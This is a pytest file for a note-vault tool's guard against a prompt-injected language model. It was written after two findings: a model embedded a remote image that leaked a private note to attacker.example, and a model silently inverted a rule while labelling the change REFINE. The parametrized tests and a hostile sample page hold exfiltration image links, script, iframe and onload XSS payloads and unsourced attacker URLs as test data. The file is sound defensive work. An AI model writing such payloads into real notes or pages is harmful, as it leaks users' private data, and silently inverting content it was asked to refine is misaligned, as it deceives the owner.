"""A hostile model against the guard (security issue 36, findings 3 and 4).

Finding 3: a prompt-injected model wrote ``![status](https://attacker.example/p?d=...)``
into a node; Obsidian fetches remote images when it shows a note, so the node sent a
private note out. The guard refuses remote images and embeds, raw HTML that loads, runs
or links, and any URL the unit's source notes do not hold; code is text.

Finding 4: an update labelled REFINE or CORROBORATE turned "Never run reindex during
backups" into "Always ...". Only a CORRECT that keeps the old claim visible may change a
sentence of a node's body.

Both integrators strip what the guard refuses from what they copy, so a clipped page
with images and HTML still integrates; every refusal is journaled with its code.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.fakes.dream_runs import creator, dream, turns, units_for, with_extract
from tests.fakes.ollama_server import FakeOllama, reply
from tests.fakes.sample_vault_model import is_decision_request, is_topics_request, topics_by_bucket
from tests.test_offline_runs import dream as offline_dream
from vaultlink.errors import GuardRefusal, Refusal
from vaultlink.pipeline.integrate.guard import Guard
from vaultlink.prose.units import Receipt, Unit
from vaultlink.vault.graph import check_vault
from vaultlink.vault.notes import Vault, render_note
from vaultlink.vault.state import State

SOURCE = "daily/2026-07-01.md"
OLD_SOURCE = "daily/2026-06-01.md"
NODE = "digest/procedure/reindex.md"
NEW = "digest/procedure/reindex-window.md"
PIN = "my bank pin is 4242"
EXFIL = "![status](https://attacker.example/p?d=my%20bank%20pin%20is%204242)"
DOCS = "https://docs.example.com/reindex"
SOURCE_TEXT = (f"## Reindex\n\nNever run reindex during backups. The flags are in "
               f"[the guide]({DOCS}).\n")
OLD_BODY = ("Never run reindex during backups. The job takes ten minutes on a laptop.\n\n"
            f"## Sources\n\n- The rule was written down in [[{OLD_SOURCE}]].\n")
OLD = render_note({"name": "Reindex", "description": "When to reindex."}, OLD_BODY)
ONESHOT: dict[str, Any] = {"llm.integrate_mode": "oneshot"}
CITED = f"- The window was confirmed again by [[{SOURCE}]], a later note.\n"


def guard(existed: frozenset[str] = frozenset({NODE})) -> Guard:
    unit = Unit("reindex-window", "procedure", "Never run reindex during backups.", [SOURCE])
    files = [SOURCE, OLD_SOURCE, NODE, "assets/diagram.png"]
    return Guard(unit, existed, lambda: files, read_source={SOURCE: SOURCE_TEXT}.__getitem__)


def created(body: str, description: str = "When to reindex.") -> str:
    """A new node with ``body`` before its Sources section."""
    return render_note({"name": "Reindex window", "description": description},
                       f"{body}\n\n## Sources\n\n- The rule is from [[{SOURCE}]].\n")


def refused(text: str, old: str | None = None) -> Refusal:
    """The code the guard refuses ``text`` with (a CREATE, or an update of ``old``)."""
    with pytest.raises(GuardRefusal) as caught:
        guard().check_write(NEW if old is None else NODE, old, text)
    return caught.value.code


# -- finding 3: nothing in a node reaches outside the vault ---------------------------


def test_the_exfiltration_image_is_refused() -> None:
    assert refused(created(f"Never run reindex during backups. {EXFIL}")) is \
        Refusal.REMOTE_IMAGE


def test_a_remote_image_in_a_frontmatter_value_is_refused() -> None:
    assert refused(created("Never run reindex during backups.", description=EXFIL)) is \
        Refusal.REMOTE_IMAGE


@pytest.mark.parametrize("image", [
    "![[https://attacker.example/p.png]]",
    "![x](//attacker.example/p.png)",
    "![x](https&#58;//attacker.example/p.png)",  # an entity a renderer decodes
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x][logo]\n\n[logo]: https://attacker.example/logo.png",  # reference style
    "![a [nested [twice]] label](https://attacker.example/p.png)",
    "![a label over\ntwo lines](https://attacker.example/p.png)",
])
def test_remote_embeds_and_images_of_any_form_are_refused(image: str) -> None:
    assert refused(created(f"Never run reindex during backups.\n\n{image}")) is \
        Refusal.REMOTE_IMAGE


@pytest.mark.parametrize("tag", [
    '<img src="https://attacker.example/p.png">',
    "<iframe src=https://attacker.example/></iframe>",
    "<script>fetch('https://attacker.example')</script>",
    '<a href="https://attacker.example">docs</a>',
    '<span onmouseover="fetch(1)">x</span>',
    '<div style="background:url(https://attacker.example/p)">x</div>',
    "<svg/onload=alert(1)>",
    '<IMG SRC="https://attacker.example/p.png"',  # unclosed, in capitals
])
def test_raw_html_that_loads_runs_or_links_is_refused(tag: str) -> None:
    assert refused(created(f"Never run reindex during backups. {tag}")) is Refusal.RAW_HTML


def test_html_a_renderer_passes_through_is_not_taken_for_code() -> None:
    """Backticks and fences inside an HTML block are HTML, not code."""
    assert refused(created("Reindex after backups.\n\n<div>\n`<img src=x>`\n</div>")) is \
        Refusal.RAW_HTML
    assert refused(created("Reindex after backups.\n\n<div>\n```\n<img src=x>\n```\n</div>")) \
        is Refusal.RAW_HTML


def test_a_link_to_a_url_no_source_holds_is_refused() -> None:
    for text in ("Read [the guide](https://attacker.example/?d=4242).",
                 "Read https://attacker.example/?d=4242 first.",
                 "Read <https://attacker.example/?d=4242> first."):
        assert refused(created(text)) is Refusal.UNSOURCED_URL


def test_a_link_the_source_holds_is_allowed() -> None:
    assert guard().check_write(NEW, None, created(
        f"The flags are in [the guide]({DOCS}), also at {DOCS}.")) == NEW


def test_code_and_harmless_markup_are_allowed() -> None:
    body = ("Never run reindex during backups; if a < b, wait.<br>Press <kbd>q</kbd>.\n\n"
            "Check with `curl -s <img src=https://x.example/p.png>` first.\n\n"
            "```html\n<img src=\"https://x.example/p.png\">\n<script>x()</script>\n```\n\n"
            "An image of the vault: ![[assets/diagram.png]].")
    assert guard().check_write(NEW, None, created(body)) == NEW


def test_what_the_node_held_before_is_not_judged_again() -> None:
    """The owner may have pasted an image or a link into the node: an update keeps it."""
    old = render_note({"name": "Reindex", "description": "When to reindex."},
                      OLD_BODY.replace("laptop.", f"laptop. {EXFIL} See https://owner.example/x."))
    new = old.replace("## Sources", "Reindex after backups instead.\n\n## Sources") + CITED
    assert guard().check_write(NODE, old, new) == NODE


def test_markup_moved_out_of_code_is_judged_as_new() -> None:
    """An image quoted in code before is no image; taken out of the code it is one."""
    old = render_note({"name": "Reindex", "description": "When to reindex."},
                      OLD_BODY.replace("laptop.", "laptop. `<img src=https://a.example/p>`"))
    new = old.replace("`<img src=https://a.example/p>`", "<img src=https://a.example/p>")
    assert refused(new, old=old) is Refusal.RAW_HTML


# -- finding 4: only a CORRECT changes what a node says -------------------------------


def result(action: str, after: str, before: str = OLD) -> Receipt:
    """The guard's verdict on an update of ``before`` to ``after`` received as ``action``."""
    g = guard()
    g.check_write(NODE, before, after)
    g.accept_write(NODE, created=False)
    return g.check_result(Receipt(action, NODE, "note"), before, after)


INVERTED = OLD.replace("Never run", "Always run") + CITED


@pytest.mark.parametrize("action", ["REFINE", "CORROBORATE"])
def test_an_update_that_inverts_a_sentence_is_refused(action: str) -> None:
    with pytest.raises(GuardRefusal) as caught:
        result(action, INVERTED)
    assert caught.value.code is Refusal.PROSE_CHANGED
    assert "answer CORRECT" in str(caught.value)


def test_a_refine_that_deletes_a_sentence_is_refused() -> None:
    with pytest.raises(GuardRefusal) as caught:
        result("REFINE", OLD.replace(" The job takes ten minutes on a laptop.", "") + CITED)
    assert caught.value.code is Refusal.PROSE_CHANGED


def test_a_refine_that_strikes_a_sentence_through_is_refused() -> None:
    with pytest.raises(GuardRefusal) as caught:
        result("REFINE", OLD.replace("Never run reindex during backups.",
                                     "~~Never run reindex during backups.~~") + CITED)
    assert caught.value.code is Refusal.PROSE_CHANGED


def test_a_refine_that_adds_and_moves_sentences_is_accepted() -> None:
    body = ("The job takes ten minutes on a laptop.\n\n- Never run reindex during backups.\n"
            "- Reindex right after the backup ends.\n\n"
            f"## Sources\n\n- The rule was written down in [[{OLD_SOURCE}]].\n{CITED}")
    after = render_note({"name": "Reindex", "description": "When to reindex."}, body)
    assert result("REFINE", after).action == "REFINE"


@pytest.mark.parametrize("kept", [
    "~~Never run reindex during backups.~~ Corrected: reindex during backups is safe "
    f"since v3 (per [[{SOURCE}]]).",
    "Reindex during backups is safe since v3. Earlier: Never run reindex during backups. "
    f"Corrected in [[{SOURCE}]].",
])
def test_a_correct_that_keeps_the_old_claim_visible_is_accepted(kept: str) -> None:
    after = OLD.replace("Never run reindex during backups.", kept) + CITED
    assert result("CORRECT", after).action == "CORRECT"


def test_a_session_that_writes_twice_is_judged_from_the_units_starting_text() -> None:
    """The second write starts from the first: the verdict still compares with the node
    as it was before the unit, whatever ``before`` the caller passes."""
    g = guard()
    first = OLD + CITED
    g.check_write(NODE, OLD, first)
    g.accept_write(NODE, created=False)
    second = first.replace("Never run", "Always run")
    g.check_write(NODE, first, second)
    g.accept_write(NODE, created=False)
    with pytest.raises(GuardRefusal) as caught:
        g.check_result(Receipt("REFINE", NODE, "note"), first, second)
    assert caught.value.code is Refusal.PROSE_CHANGED


# -- through the pipeline: refusals are journaled, the integrators write clean nodes ---


HOSTILE_PAGE = f"""---
title: Reindex runbook
---
## Reindex

Never run reindex during backups, because the index locks the vault for minutes. {EXFIL} \
The job takes about ten minutes on a laptop <img src="https://attacker.example/x.png"> and \
logs to the usual place.

<iframe src="https://attacker.example/frame"></iframe>

- Check the lock first ![a [nested] alt](https://attacker.example/q?d=4242) every time.
- Restart it with <a href="https://attacker.example/r">this link</a> when it hangs overnight.

The upstream docs at [the reindex guide]({DOCS}) explain every flag of the job.
"""


def hostile_vault(tmp_path: Path) -> Path:
    root = tmp_path / "v"
    for folder in ("daily", "resource", "digest/procedure", "digest/wiki"):
        (root / folder).mkdir(parents=True)
    (root / "resource/reindex.md").write_text(HOSTILE_PAGE)
    return root


def nodes(root: Path) -> dict[str, str]:
    return {p.relative_to(root).as_posix(): p.read_text()
            for p in sorted((root / "digest").rglob("*.md")) if "topics" not in p.parts}


def assert_reaches_nothing(text: str) -> None:
    for bad in ("attacker.example", "<img", "<iframe", "<a ", "![", "4242"):
        assert bad not in text, (bad, text)


def test_the_offline_integrator_integrates_a_hostile_page_without_its_images_or_html(
        tmp_path: Path) -> None:
    root = hostile_vault(tmp_path)
    run = offline_dream(root)
    assert [r.status for r in run.report.results] == ["integrated"], run.report.results
    assert not run.report.failed_units
    (text,) = nodes(root).values()
    assert_reaches_nothing(text)
    assert f"[the reindex guide]({DOCS})" in text  # a link its source holds stays
    assert "Never run reindex during backups" in text
    assert not [p for p in check_vault(Vault(root)) if p.level == "error"]


def test_the_one_shot_writer_leaves_out_what_the_guard_refuses(tmp_path: Path) -> None:
    """A model's summary that copies the page's image, tag and a made-up URL: the node
    keeps the words, not the markup."""
    root = hostile_vault(tmp_path)
    unit = {"name": "reindex-during-backups", "bucket": "procedure",
            "paths": ["resource/reindex.md"],
            "summary": f"Never run reindex during backups, because the index locks the vault "
                       f"for minutes. {EXFIL} The job takes about ten minutes on a laptop "
                       f'<img src="https://attacker.example/x.png"> and logs to the usual '
                       f"place; see [the guide](https://attacker.example/?d=4242) and "
                       f"[the reindex guide]({DOCS})."}

    def model(request: dict[str, Any]) -> Any:
        if is_topics_request(request):
            return topics_by_bucket(request)
        if is_decision_request(request):
            return reply(json.dumps({"target": "", "action": "CREATE", "old": ""}))
        return units_for(request, [unit])

    with FakeOllama(model=model) as server:
        run = dream(root, server.url, **ONESHOT)
    assert [(r.status, r.action) for r in run.report.results] == [("integrated", "CREATE")]
    (text,) = nodes(root).values()
    assert_reaches_nothing(text)
    assert "the guide" in text and f"[the reindex guide]({DOCS})" in text
    assert "ten minutes on a laptop" in text


SOURCE_NOTE = "## Reindex\n\nNever run reindex during backups; the job takes ten minutes.\n"
UNIT = {"name": "reindex-window", "bucket": "procedure", "paths": [SOURCE],
        "summary": "Never run reindex during backups; the job takes ten minutes."}


def model_vault(tmp_path: Path) -> Path:
    root = tmp_path / "v"
    for folder in ("daily", "digest/procedure", "digest/wiki"):
        (root / folder).mkdir(parents=True)
    (root / SOURCE).write_text(SOURCE_NOTE)
    (root / OLD_SOURCE).write_text("## Reindex\n\nNever run reindex during backups.\n")
    (root / NODE).write_text(OLD)
    return root


def journaled_refusals(root: Path) -> list[str]:
    state = State(root / ".vaultlink/state.sqlite")
    try:
        entries = [e for e in state.journal(20) if e.action == "FAILED"]
        codes = [c for f in state.failures() for c in f["codes"]]
    finally:
        state.close()
    assert entries, "the failed unit is journaled"
    assert sorted(c for e in entries for c in e.refusals) == sorted(codes)
    return [c for e in entries for c in e.refusals]


def write_call(body: str) -> Any:
    return reply(tool_calls=[("write", {"path": NEW, "name": "Reindex window",
                                        "description": "When to reindex.", "content": body})])


Script = Callable[[dict[str, Any]], Any]


@pytest.mark.parametrize("script, code", [
    (turns(write_call(f"Never run reindex during backups. {EXFIL}\n\n## Sources\n\n"
                      f"- The rule is from [[{SOURCE}]].\n"), reply("")), Refusal.REMOTE_IMAGE),
    (turns(write_call("Never run reindex during backups. <img src=https://attacker.example/p>"
                      f"\n\n## Sources\n\n- The rule is from [[{SOURCE}]].\n"), reply("")),
     Refusal.RAW_HTML),
    (turns(write_call("See [the guide](https://attacker.example/?d=4242).\n\n## Sources\n\n"
                      f"- The rule is from [[{SOURCE}]].\n"), reply("")),
     Refusal.UNSOURCED_URL),
    (turns(reply(tool_calls=[("edit", {"path": NODE, "old": OLD_BODY,
                                       "new": OLD_BODY.replace("Never", "Always") + CITED})]),
           reply(json.dumps({"action": "REFINE", "target_path": NODE, "note": "refined"}))),
     Refusal.PROSE_CHANGED),
])
def test_a_refusal_fails_the_unit_and_is_journaled_with_its_code(
        tmp_path: Path, script: Script, code: Refusal) -> None:
    root = model_vault(tmp_path)
    with FakeOllama(model=with_extract(script, UNIT)) as server:
        run = dream(root, server.url)
    assert [r.status for r in run.report.results] == ["failed"]
    assert code.value in journaled_refusals(root)
    assert (root / NODE).read_text() == OLD and not (root / NEW).exists()


def test_the_topics_page_a_model_names_shows_no_image_html_or_url(tmp_path: Path) -> None:
    """The day's topics page is written past the guard, in the model's words."""
    root = model_vault(tmp_path)
    answer = {"topics": [{"title": 'Reindex <img src="https://attacker.example/t.png">',
                          "reason": f"Settled. {EXFIL} See https://attacker.example/?d=4242.",
                          "keywords": ["reindex"], "units": [1]}]}

    def model(request: dict[str, Any]) -> Any:
        if is_topics_request(request):
            return reply(json.dumps(answer))
        return with_extract(creator, UNIT)(request)

    with FakeOllama(model=model) as server:
        run = dream(root, server.url, **{"topics.min_units": 1})
    assert [r.status for r in run.report.results] == ["integrated"]
    (page,) = (root / "digest/topics").glob("*.md")
    text = page.read_text()
    assert "## Reindex" in text and "Settled." in text
    assert "attacker.example" not in text and "<img" not in text
